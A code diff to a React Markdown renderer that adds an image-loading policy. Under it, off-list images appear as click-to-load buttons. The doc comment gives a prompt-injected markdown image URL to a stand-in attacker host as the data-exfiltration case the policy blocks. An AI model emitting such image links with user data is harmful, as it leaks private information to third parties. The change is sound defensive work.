@@ -2,7 +2,9 @@
 
 import { Fragment, memo, Suspense, useMemo, type ReactElement } from 'react';
 import { InlineCode } from './InlineCode';
+import { MarkdownImage } from './MarkdownImage';
 import { MarkdownPre } from './MarkdownPre';
+import type { ImagePolicy } from './imagePolicy';
 import { mathPlugin } from './math';
 import { MarkdownFeaturesContext, type MarkdownFeatures } from './markdownFeatures';
 import { hastToReact } from './hastToReact';
@@ -43,6 +45,14 @@ export interface MarkdownProps {
    * first code block appears. Default true; false shows code plain.
    */
   highlight?: boolean;
+  /**
+   * Where images may load from on their own. Without it every http(s) image loads as it renders;
+   * with it, an image from anywhere else shows as a button naming its host, and loads on the
+   * user's click, so a prompt-injected `![](https://attacker.example/?q=…)` leaks nothing by
+   * itself. See the security guide.
+   * @default undefined (every http(s) image loads)
+   */
+  images?: ImagePolicy;
 }
 
 interface BlockProps {
@@ -118,7 +128,12 @@ export const Markdown = memo(function Markdown({
   streaming = false,
   math = true,
   highlight = true,
+  images: imagesProp,
 }: MarkdownProps) {
+  // Apps often write the policy inline; one that says the same keeps every block memoised.
+  const imagesKey = imagesProp ? JSON.stringify(imagesProp) : '';
+  // eslint-disable-next-line react-hooks/exhaustive-deps
+  const images = useMemo(() => imagesProp, [imagesKey]);
   const html = htmlCleaner.use(allowHtml, allowHtml);
   const mathSupport = mathPlugin.parser.use(math, () => mathPlugin.mayHaveMath(children));
   const gfm = gfmParser.use(true, () => MAY_USE_GFM.test(children));
@@ -127,9 +142,13 @@ export const Markdown = memo(function Markdown({
   const plugins = useMemo(() => runner?.createPluginRun(remarkPlugins ?? [], rehypePlugins ?? []), [runner, remarkPlugins, rehypePlugins]);
   // Code blocks get a header with the language and a Copy button unless the app renders `pre`;
   // `code` stays ours (it renders inline math) and hands everything else to the app's `code`.
-  const merged = useMemo(() => ({ ...components, pre: MarkdownPre, code: InlineCode }), [components]);
+  const merged = useMemo(
+    () => ({ ...components, pre: MarkdownPre, code: InlineCode, ...(images ? { img: MarkdownImage } : undefined) }),
+    [components, images],
+  );
   const userCode = components?.code;
   const userPre = components?.pre;
+  const userImg = components?.img;
   const features = useMemo<MarkdownFeatures>(
     () => ({
       math,
@@ -137,8 +156,10 @@ export const Markdown = memo(function Markdown({
       streaming: false,
       code: userCode,
       pre: userPre,
+      images,
+      img: userImg,
     }),
-    [math, highlight, userCode, userPre],
+    [math, highlight, userCode, userPre, images, userImg],
   );
   // Only the last block is still arriving; the others are final even while the reply streams.
   const tailFeatures = useMemo<MarkdownFeatures>(() => ({ ...features, streaming }), [features, streaming]);
